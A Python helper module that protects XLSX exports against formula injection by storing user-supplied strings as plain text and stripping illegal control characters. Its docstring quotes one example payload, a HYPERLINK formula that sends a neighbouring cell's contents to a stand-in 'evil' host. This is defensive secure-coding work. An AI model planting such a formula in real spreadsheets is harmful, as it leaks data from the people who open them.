"""Writing XLSX rows from user-controlled text: every `str` is stored as text, never as a formula.

openpyxl turns any string starting with "=" into a formula (and "#N/A", "#REF!"… into error values),
so an address like `=HYPERLINK("http://evil/?"&B3,"x")` would become a live formula in an officer's
export. Every XLSX writer of the platform appends its rows through `append_row`, which stores each
string as an inline string (`t="inlineStr"`) whatever it starts with ("=", "+", "-", "@", tab, CR…).
Control characters that XLSX cannot hold (e.g. \x01 pasted into an address) are dropped, so they
never crash an export. Numbers, Decimals, dates, booleans and None pass through unchanged.

Works for normal and write-only worksheets alike (both accept `Cell` objects in `append`).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

if TYPE_CHECKING:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

    Sheet = Worksheet | WriteOnlyWorksheet

TEXT = "s"  # openpyxl's data type for a string cell (written as an inline string)


def text_cell(ws: Sheet, value: str) -> Cell:
    """A cell holding `value` as text, never as a formula or an error value; style it as you like."""
    cell = WriteOnlyCell(ws, value=value)
    cell.data_type = TEXT
    return cell


def append_row(ws: Sheet, values: Iterable[Any]) -> None:
    """`ws.append(values)`, with every string stored as text.

    A string openpyxl would type as anything but text (a formula, an error code) goes in as a
    `text_cell`; any other string is already text and is passed as is (a write-only sheet then reuses
    one cell, which keeps large exports fast). A `Cell` holding a string is forced to text as well.
    """
    probe = WriteOnlyCell()  # per call: never shared between threads
    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            value = ILLEGAL_CHARACTERS_RE.sub("", value)  # control characters XLSX cannot store
            probe.value = value
            if probe.data_type != TEXT:
                value = text_cell(ws, value)
        elif isinstance(value, Cell) and isinstance(value.value, str):
            value.data_type = TEXT
        row.append(value)
    ws.append(row)
